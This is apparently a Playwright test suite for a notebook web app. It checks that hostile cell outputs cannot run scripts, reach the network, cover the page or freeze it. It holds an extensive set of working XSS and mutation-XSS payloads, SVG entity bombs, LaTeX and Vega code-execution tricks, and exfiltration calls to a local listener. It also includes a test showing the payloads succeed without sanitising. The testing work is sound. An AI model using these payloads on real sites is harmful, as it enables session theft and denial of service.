"""Outputs whose author means harm: nothing runs as the page, nothing is fetched, nothing is covered, nothing freezes."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Error, Frame, Page, Request, expect
from showcase import PLOTLY, VEGA_LITE, data, open_book, png, stream, walk

PATIENCE_MS = 45_000
# What the browser says of requests that a policy stopped before they left it.
BLOCKED = ("csp", "origin", "net::ERR_BLOCKED_BY_CSP", "net::ERR_BLOCKED_BY_CLIENT")


class Sink:
    """Another host: whoever connects or sends a packet has leaked."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self.port, self.udp_port = self._tcp.getsockname()[1], self._udp.getsockname()[1]
        self.host = f"http://127.0.0.1:{self.port}"
        for listen in (self._listen, self._receive):
            threading.Thread(target=listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                peer, _ = self._tcp.accept()
            except OSError:
                return
            with peer:
                peer.settimeout(0.3)
                try:
                    first = peer.recv(2000).decode("latin-1").split("\r\n")[0]
                except OSError:
                    first = "a connection"
                self.heard.append(first or "a connection")
                try:
                    peer.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
                except OSError:
                    pass

    def _receive(self) -> None:
        while True:
            try:
                self._udp.recvfrom(2000)
            except OSError:
                return
            self.heard.append("a packet")

    def close(self) -> None:
        self._tcp.shutdown(socket.SHUT_RDWR)
        self._tcp.close()
        self._udp.close()


@pytest.fixture
def sink() -> Iterator[Sink]:
    sink = Sink()
    yield sink
    sink.close()


class Victim:
    """A signed-in page, and what the frames below it asked the network for."""

    def __init__(self, page: Page, server: Any) -> None:
        self.page, self.server = page, server
        self.asked: list[str] = []
        page.on("requestfinished", self._look)
        page.on("requestfailed", lambda request: self._look(request) if request.failure not in BLOCKED else None)
        page.on("dialog", lambda dialog: (self.asked.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("download", lambda download: self.asked.append(f"download {download.url}"))
        page.context.on("page", lambda other: self.asked.append(f"window {other.url}"))

    def _look(self, request: Request) -> None:
        if not request.url.startswith((self.server.url, "data:", "blob:")):
            self.asked.append(f"request {request.url} {request.failure}")
        elif self._is_below(request) and request.url.startswith(self.server.url):
            place = request.url[len(self.server.url):]
            if place != "/frame" and not place.startswith("/assets/") and not (request.failure or "").startswith("net::ERR_BLOCKED_BY"):
                self.asked.append(f"frame asked for {place} {request.failure}")
            if "cookie" in request.all_headers():
                self.asked.append(f"frame sent a cookie to {place}")

    def _is_below(self, request: Request) -> bool:
        try:
            return request.frame.parent_frame is not None
        except Exception:  # a request of a worker or of a frame that is gone
            return True


@pytest.fixture
def victim(browser: Browser, shared_server: Any) -> Iterator[Victim]:
    context = browser.new_context(viewport={"width": 1280, "height": 860})
    page = context.new_page()
    page.set_default_timeout(PATIENCE_MS)
    page.goto(shared_server.cli("token", "login").stdout.strip())
    page.wait_for_selector("nav.sections")
    page.evaluate("() => localStorage.setItem('secret', 'kept')")
    yield Victim(page, shared_server)
    context.close()


def harm(name: str, sink: Sink) -> str:
    """What a script does once it runs: it marks whatever it can reach, and it talks to whoever listens."""
    return (f"(()=>{{const n='{name}';"
            "try{if(self.origin!=='null'||localStorage){self.__pwned=(self.__pwned||[]).concat(n);localStorage.setItem('pwned',n)}}catch{}"
            "for(const w of [self.top,self.parent,self.opener]){try{w.__pwned=(w.__pwned||[]).concat(n);w.document.title='pwned '+n}catch{}}"
            "try{top.location='about:blank#'+n}catch{}"
            f"try{{fetch('{sink.host}/'+n,{{mode:'no-cors',credentials:'include'}}).catch(()=>{{}})}}catch{{}}"
            f"try{{new Image().src='{sink.host}/image-'+n}}catch{{}}"
            f"try{{navigator.sendBeacon('{sink.host}/beacon-'+n,'x')}}catch{{}}"
            f"try{{new WebSocket('ws://127.0.0.1:{sink.port}/'+n)}}catch{{}}"
            f"try{{new EventSource('{sink.host}/events-'+n)}}catch{{}}"
            f"try{{open('{sink.host}/window-'+n)}}catch{{}}"
            "try{fetch('/v1/objects',{credentials:'include'}).catch(()=>{})}catch{}"
            "try{alert(n)}catch{}"
            "})()").replace('"', "&quot;")


def html_payloads(sink: Sink) -> dict[str, str]:
    def act(name: str) -> str:
        return harm(name, sink)

    far = sink.host
    return {
        "script": f"<script>{act('script')}</script>",
        "script-after-table": f"<table><tr><td>1</td></tr></table><script>{act('script-after-table')}</script>",
        "script-src": f"<script src='{far}/script-src.js'></script>",
        "module": f"<script type=module>import '{far}/module.js'</script>",
        "img-onerror": f"<img src=x onerror=\"{act('img-onerror')}\">",
        "img-far": f"<img src='{far}/img-far.png' srcset='{far}/srcset.png 2x'>",
        "onmouseover": f"<p onmouseover=\"{act('onmouseover')}\" onfocus=\"{act('onfocus')}\" tabindex=0 autofocus>hover</p>",
        "details-ontoggle": f"<details open ontoggle=\"{act('ontoggle')}\"><summary>x</summary></details>",
        "body-onload": f"<body onload=\"{act('body-onload')}\">hello",
        "svg-script": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{act('svg-script')}</script></svg>",
        "svg-onload": f"<svg onload=\"{act('svg-onload')}\"><animate onbegin=\"{act('onbegin')}\" attributeName=x dur=1s></svg>",
        "svg-use": f"<svg><use href='{far}/use.svg#x'></use><image href='{far}/image.svg'/></svg>",
        "math-mutation": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={act('math')}&gt;\">",
        "noscript-mutation": f"<noscript><p title=\"</noscript><img src=x onerror={act('noscript')}>\">",
        "svg-style-mutation": f"<svg></p><style><a id=\"</style><img src=1 onerror={act('svg-style')}>\">",
        "template-mutation": f"<template><img src=x onerror=\"{act('template')}\"></template><form><math><mtext></form><form><mglyph><style></math><img src onerror=\"{act('form-math')}\">",
        "comment-mutation": f"<!--><img src=x onerror=\"{act('comment')}\">--><![CDATA[<img src=x onerror=\"{act('cdata')}\">]]>",
        "javascript-link": f"<a href=\"javascript:{act('javascript-link')}\">press</a><a href=\" java\nscript:{act('javascript-link-2')}\">press</a>",
        "data-link": "<a href='data:text/html,<script>alert(1)</script>'>press</a>",
        "top-link": f"<a href='{far}/top' target=_top>press</a><a href='/settings' target=_parent>press</a><a href='{far}/ping' ping='{far}/ping2'>press</a>",
        "form": f"<form action='{far}/form' method=post><input name=password autofocus><button id=go>Sign in</button></form><script>document.forms[0].submit()</script>",
        "form-own": "<form action='/v1/objects' method=post><button>x</button></form><script>document.forms[0].submit()</script>",
        "formaction": f"<button form=f formaction='{far}/formaction'>x</button><form id=f></form><input type=image src='{far}/input.png'>",
        "cover": "<style>body{position:fixed;inset:0;z-index:99999;background:red}</style><div style='position:fixed;inset:0;z-index:2147483647;background:red'>covered</div>",
        "style-import": f"<style>@import '{far}/import.css'; @font-face{{font-family:f;src:url({far}/font.woff2)}} body{{background:url({far}/background.png);font-family:f}}</style>text",
        "style-attribute": f"<p style=\"background:url({far}/style.png);position:fixed;top:0\">text</p>",
        "link-sheet": f"<link rel=stylesheet href='{far}/sheet.css'><link rel=preload as=image href='{far}/preload.png'><link rel=prefetch href='{far}/prefetch'>",
        "meta-refresh": f"<meta http-equiv=refresh content='0;url={far}/refresh'>",
        "meta-csp": "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><meta name=referrer content=unsafe-url>",
        "base": f"<base href='{far}/'><img src='base.png'><script src='base.js'></script>",
        "iframe": f"<iframe src='{far}/iframe'></iframe><iframe srcdoc=\"<script>{act('srcdoc')}</script>\"></iframe><iframe src=\"javascript:{act('iframe-js')}\"></iframe>",
        "iframe-own": "<iframe src='/settings'></iframe><iframe src='/v1/objects'></iframe><iframe src='/frame'></iframe>",
        "object": f"<object data='{far}/object'></object><embed src='{far}/embed'><object data=\"data:text/html,<script>{act('object')}</script>\"></object>",
        "media": f"<video src='{far}/video' poster='{far}/poster' autoplay></video><audio src='{far}/audio' autoplay onerror=\"{act('audio')}\"></audio>",
        "table-background": f"<table background='{far}/table.png'><tr><td background='{far}/cell.png'>1</td></tr></table>",
        "navigate": f"<script>location='{far}/navigate'</script>",
        "navigate-own": "<script>location='/settings'</script>",
        "navigate-data": f"<script>location=\"data:text/html,<script>{act('navigate-data')}<\\/script>\"</script>",
        "navigate-blob": "<script>location=URL.createObjectURL(new Blob(['<script>parent.postMessage({type:\"link\",href:\"https://x\"},\"*\")<\\/script>'],{type:'text/html'}))</script>",
        "download": f"<a download href='{far}/file' id=d>x</a><script>d.click();const a=document.createElement('a');a.download='x.exe';a.href='data:,x';a.click()</script>",
        "clobber": "<form id=page></form><img name=cookie><a id=api></a><a id=session name=csrf href=x></a><input name=attributes><p id=body>clobbered</p>",
        "custom-element": f"<x-y onclick=\"{act('custom')}\"></x-y><dialog open style='position:fixed'>dialog</dialog><slot name=x></slot>",
        "popover": "<div popover id=p style='inset:0;width:100vw;height:100vh'>x</div><button popovertarget=p>x</button><script>p.showPopover()</script>",
        "worker": f"<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{far}/worker')\"])));navigator.serviceWorker?.register('/assets/x.js')</script>",
        "nested-blank": f"<script>const f=document.createElement('iframe');document.body.append(f);const s=f.contentDocument.createElement('script');s.textContent=\"{act('nested-blank')}\".replace(/&quot;/g,'\"');f.contentDocument.body.append(s)</script>",
        "message-storm": "<script>for(let i=0;i<5000;i++)parent.postMessage({type:'height',height:i},'*')</script>",
        "message-lies": "<script>parent.postMessage({type:'height',height:1e9},'*');parent.postMessage({type:'link',href:'javascript:alert(1)'},'*');parent.postMessage(null,'*');parent.postMessage({type:'height',height:{}},'*')</script>",
        "storage": "<script>try{document.cookie='pwned=1'}catch{};try{localStorage.pwned=1}catch{};try{indexedDB.open('pwned')}catch{};try{caches.open('pwned')}catch{}</script>",
        "own-script": "<script src='/v1/objects'></script><script src='/v1/session'></script><link rel=stylesheet href='/v1/objects'>",
    }


def other_payloads(sink: Sink) -> list[Any]:
    """The other kinds, and every field a text can come by."""
    def act(name: str) -> str:
        return harm(name, sink)

    far = sink.host
    image = f"<img src=x onerror=\"{act('field')}\">"
    svg = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='10' height='10'>"
    return [
        data(text_plain=image), stream(image), stream(image, "stderr"), stream(image, image),
        {"output_type": "error", "ename": image, "evalue": image, "traceback": [image, f"File {image}\n{image}"]},
        data(application_json={image: [image, {image: image}]}),
        data(**{"application/vnd.suricate.result+json": {image: image, "rows": [{image: image}]}}),
        data(**{"application/vnd.suricate.progress+json": {"fraction": image, "text": image}}),
        data({"image/png": {"alt": f'"><script>{act("alt")}</script>', "width": "1e9", "height": -1}}, image_png=png(9, 9)),
        data(image_png=image), data(image_png="data:text/html," + image), data(image_jpeg=png(3, 3)),
        data(**{"image/svg+xml": f"{svg}<script>{act('svg-file')}</script></svg>"}),
        data(**{"image/svg+xml": f"{svg}<rect width='9' height='9' onload=\"{act('svg-onload-file')}\"/><image href='{far}/svg-image'/><use href='{far}/svg-use#a'/><style>@import '{far}/svg.css';</style></svg>"}),
        data(**{"image/svg+xml": f"{svg}<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'><script>{act('foreign')}</script><iframe src='{far}/foreign'/></body></foreignObject></svg>"}),
        data(**{"image/svg+xml": f"<!DOCTYPE svg [<!ENTITY x SYSTEM '{far}/entity'>]>{svg}<text>&x;</text></svg>"}),
        data(**{"image/svg+xml": "<html><script>alert(1)</script></html>"}),
        data(text_latex=f"$\\href{{javascript:{act('href')}}}{{x}} \\includegraphics{{{far}/latex.png}} \\htmlStyle{{position:fixed}}{{x}} \\url{{javascript:1}}$"),
        data(text_latex="$" + "{" * 5000 + "}" * 5000 + "$"), data(text_latex="$\\def\\a{\\a\\a}\\a$"), data(text_latex="$\\rule{99999em}{99999em}$"),
        data(text_markdown=f"<script>{act('md')}</script> [x](javascript:{act('md-link')}) ![y]({far}/markdown.png) [z](data:text/html,x) <{far}/auto> <iframe src='{far}'></iframe>"),
        data(application_javascript=act("javascript").replace("&quot;", '"')),
        data(**{PLOTLY: {"data": [{"type": "scatter", "x": [1], "y": [2], "text": [image], "hovertemplate": image}],
                         "layout": {"title": {"text": f"<a href='javascript:{act('plotly')}'>x</a>{image}"}, "images": [{"source": f"{far}/plotly.png", "x": 0, "y": 0, "sizex": 1, "sizey": 1}],
                                    "annotations": [{"text": f"<a href='{far}/annotation'>x</a>", "x": 1, "y": 2}]}, "config": {"plotlyServerURL": far, "topojsonURL": far}}}),
        data(**{VEGA_LITE: {"data": {"url": f"{far}/vega.csv"}, "mark": "point", "encoding": {}}}),
        data(**{VEGA_LITE: {"data": {"values": [{"u": f"{far}/mark.png"}]}, "mark": {"type": "image"}, "encoding": {"url": {"field": "u"}}}}),
        data(**{"application/vnd.vega.v5+json": {"signals": [{"name": "s", "update": "'a'.constructor.constructor('alert(1)')()"}], "marks": [], "data": [{"name": "d", "url": f"{far}/vega.json"}],
                                                 "usermeta": {"embedOptions": {"loader": {"baseURL": far}, "actions": True, "bind": "body"}}}}),
        data({"suricate": {"too_large": 5, "href": f"{far}/v1/runs/x"}}), data({"suricate": {"too_large": 5, "href": "//127.0.0.2/v1/runs/x"}}),
        data({"suricate": {"too_large": 5, "href": "/v1/notebooks/../tokens"}}), data({"suricate": {"too_large": 5, "href": "javascript:alert(1)"}}),
        data(**{"application/vnd.jupyter.widget-view+json": {"model_id": image}, "text/plain": image}),
        data(**{"text/x-" + image: image}),
        f"# {image}\n\n<script>{act('markdown-cell')}</script>\n\n<a href=\"javascript:{act('markdown-a')}\">x</a>\n\n<div style='position:fixed;inset:0'>cover</div>\n\n"
        f"![far]({far}/cell.png)\n\n$\\href{{javascript:alert(1)}}{{x}}$\n\n<span data-tex=\"\\href{{javascript:1}}{{x}}\">x</span>\n\n<style>*{{display:none}}</style>\n\n<base href='{far}'>\n\n"
        f"<form action='{far}'><input></form>\n\n<meta http-equiv=refresh content='0;url={far}'>",
    ]


def all_seen(page: Page) -> None:
    """Brings every output into sight, so that every frame is opened."""
    walk(page)
    page.evaluate("() => new Promise((done) => setTimeout(done, 1500))")  # nothing shall happen, which takes a while to see


def origin_of(frame: Frame) -> str:
    try:
        return str(frame.evaluate("() => self.origin"))
    except Error:
        return "gone"  # it was stopped, or it came out of sight


def unharmed(victim: Victim, sink: Sink) -> None:
    page = victim.page
    assert page.evaluate("() => [window.__pwned ?? null, localStorage.getItem('pwned'), localStorage.getItem('secret')]") == [None, None, "kept"]
    assert page.url.startswith(victim.server.url) and "pwned" not in page.title()
    assert {origin_of(frame) for frame in page.frames if frame.parent_frame is not None} <= {"null", "gone"}
    assert (victim.asked, sink.heard) == ([], [])
    # The page is in sight and works: what lies on top of its heading is its heading.
    page.evaluate("() => scrollTo(0, 0)")
    assert page.evaluate("() => { const at = document.querySelector('h1').getBoundingClientRect();"
                         " return document.elementFromPoint(at.left + 4, at.top + at.height / 2).closest('h1') !== null }")
    page.get_by_role("link", name="Runs").first.click()
    page.wait_for_url("**/runs")


def test_html_of_every_hostile_kind_reaches_nothing(victim: Victim, sink: Sink) -> None:
    payloads = html_payloads(sink)
    assert len(payloads) >= 40
    open_book(victim.page, victim.server, "abuse/html", [data(text_html=payload, text_plain=name) for name, payload in payloads.items()])
    all_seen(victim.page)
    unharmed(victim, sink)


def test_other_outputs_of_hostile_kinds_reach_nothing(victim: Victim, sink: Sink) -> None:
    open_book(victim.page, victim.server, "abuse/other", other_payloads(sink))
    all_seen(victim.page)
    unharmed(victim, sink)


def test_the_payloads_do_harm_where_nothing_holds_them(browser: Browser, shared_server: Any, sink: Sink) -> None:
    """The harness bites: the same payloads, put into a page without sanitising and policy, run and reach the other host."""
    context = browser.new_context()
    context.route("**/naked", lambda route: route.fulfill(body="<!doctype html><p>", content_type="text/html"))
    hit: set[str] = set()
    context.expose_function("__ran", lambda name: hit.add(name))
    payloads = html_payloads(sink)
    for name in ("script", "img-onerror", "nested-blank", "img-far", "style-import", "link-sheet", "base", "object"):
        page = context.new_page()
        page.on("dialog", lambda dialog: dialog.dismiss())
        page.goto(f"{shared_server.url}/naked")
        try:
            page.evaluate("(html) => { const range = document.createRange(); range.selectNode(document.documentElement);"
                          " document.documentElement.append(range.createContextualFragment(html)) }",
                          payloads[name].replace("try{top.location='about:blank#'+n}catch{}", "self.__ran?.(n);"))
        except Error:
            continue  # it led the page elsewhere
        page.wait_for_timeout(300)
    context.close()
    assert hit >= {"script", "img-onerror", "nested-blank"} and len(sink.heard) >= 10, (hit, sink.heard)


def test_hints_and_calls_past_the_network_stay_inside(victim: Victim, sink: Sink) -> None:
    """Connections that are no requests: pre-connections and WebRTC."""
    call = (f"<script>const c=new RTCPeerConnection({{iceServers:[{{urls:'stun:127.0.0.1:{sink.udp_port}'}}]}});c.createDataChannel('x');"
            "c.createOffer().then((o)=>c.setLocalDescription(o))</script>")
    open_book(victim.page, victim.server, "abuse/hints", [
        data(text_html=f"<link rel=preconnect href='{sink.host}'><link rel=dns-prefetch href='{sink.host}'><style></style><b>x</b>"), data(text_html=call)])
    all_seen(victim.page)
    victim.page.evaluate("() => new Promise((done) => setTimeout(done, 2000))")
    unharmed(victim, sink)


def answers(page: Page, within_ms: int = 3000) -> None:
    """The page draws and reacts: two frames and a timer within so long."""
    page.set_default_timeout(within_ms)
    page.evaluate("() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done, 0))))")
    page.evaluate("() => document.addEventListener('keydown', () => (window.__heard = true), {once: true})")
    page.keyboard.press("Shift")
    page.wait_for_function("() => window.__heard")
    page.set_default_timeout(PATIENCE_MS)


def test_50_mb_of_text_in_one_cell_leave_the_page_alive(victim: Victim) -> None:
    page = victim.page
    open_book(page, victim.server, "abuse/long", [stream("".join(f"{n} {'x' * 90}\n" for n in range(550_000))), stream("y" * 5_000_000)])
    show = page.get_by_role("button", name="Show this output")
    if show.count():
        show.first.click()
    all_lines = page.get_by_role("button", name="Show all 550,000 lines")
    expect(all_lines).to_be_visible()
    assert page.evaluate("() => document.querySelectorAll('*').length") < 3000
    answers(page)
    all_lines.click()
    answers(page)
    page.wait_for_function("() => document.querySelector('.out-all')?.lastElementChild?.textContent.includes('549999 x')")
    answers(page)


BIDI = "\u202e\u2066\u200f\u061c"
SLOW_MARKDOWN = ["[" * 20_000, "*a " * 30_000, "\\\\(" * 30_000, "$a " * 30_000, "> " * 3_000 + "x", "- " * 3_000 + "x", "`" * 20_000 + "a" + "`" * 19_999,
                 "<a " * 20_000, "![" * 20_000, "|" * 30_000 + "\n" + "|-" * 15_000, "\\begin{a}\n" * 10_000, "_" * 50_000, "&#" * 50_000]


@pytest.mark.parametrize(("name", "cells"), [
    ("colours", [stream("\x1b[31mx\x1b[0m" * 200_000), stream("\x1b[" + "1;" * 100_000 + "m x"), stream("\x1b" * 300_000), stream("\x1b]8;;" + "x" * 300_000)]),
    ("returns", [stream("\r" * 300_000 + "x"), stream("ab\b" * 100_000), stream("x" * 100_000 + "\b" * 100_000)]),
    ("scripts", [stream(BIDI * 1000 + "abc" + BIDI), f"{BIDI} text {BIDI}", stream("\u0301" * 20_000 + "Z\u0335\u0341" * 5_000), stream("\u200b" * 300_000)]),
    ("deep", [data(application_json=json.loads("[" * 200 + "]" * 200)), data(application_json={str(n): n for n in range(50_000)}), data(text_html="<div>" * 20_000 + "x"),
              data(text_html="<table><tr><td>" * 3_000)]),
    ("markdown", SLOW_MARKDOWN),
    ("laughs", [data(**{"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><defs><g id='a0'><rect width='1' height='1'/></g>"
                        + "".join(f"<g id='a{n + 1}'>{f'<use href=chr#a{n}chr/>'.replace('chr', chr(34)) * 10}</g>" for n in range(9)) + "</defs><use href='#a9'/></svg>"}),
                data(**{"image/svg+xml": "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1 if n else str()};' * 10}'>" for n in range(9))
                        + "]><svg xmlns='http://www.w3.org/2000/svg'><text>&a8;</text></svg>"})]),
    ("pictures", [data(image_png=png(3, 3, claimed=(65_000, 65_000))) for _ in range(20)]
     + [f"![x](data:image/png;base64,{png(3, 3, claimed=(60_000, 60_000))})", data(text_html=f"<img alt=bomb src='data:image/png;base64,{png(3, 3, claimed=(60_000, 60_000))}'>")]),
    ("loop", [data(text_html="<script>for(;;);</script>"), data(application_javascript="const a=[];for(;;)a.push(new Array(1e4))")]),
    ("many", [data(text_html=f"<script>document.body.append({n})</script>") for n in range(100)]),
])
def test_what_costs_much_to_show_leaves_the_page_alive(victim: Victim, name: str, cells: list[Any]) -> None:
    open_book(victim.page, victim.server, f"abuse/{name}", cells)
    answers(victim.page, 10_000)
    walk(victim.page)
    answers(victim.page, 10_000)
    assert victim.page.locator("iframe").count() <= 40
    assert victim.page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")
    victim.page.get_by_role("link", name="Runs").first.click()
    victim.page.wait_for_url("**/runs")


def test_10_000_prints_a_second_leave_the_page_alive(victim: Victim) -> None:
    victim.server.put_notebook("abuse/flood", "import time\nbegin = time.monotonic()\nfor n in range(60_000):\n    print('line', n, flush=n % 100 == 0)\n"
                               "    while n / 10_000 > time.monotonic() - begin:\n        time.sleep(0.001)")
    run = victim.server.start_run("abuse/flood")
    page = victim.page
    page.goto(f"{victim.server.url}/runs/{run['id']}")
    expect(page.locator(".outputs").first).to_contain_text("line 0")
    for _ in range(6):
        answers(page)
        assert page.evaluate("() => document.querySelector('.outputs').querySelectorAll('*').length") < 500
    assert victim.server.wait_run(run["id"])["state"] == "succeeded"
    expect(page.locator(".outputs").first).to_contain_text("line 59999")
    expect(page.get_by_role("button", name="Show all 60,000 lines")).to_be_visible()
    answers(page)
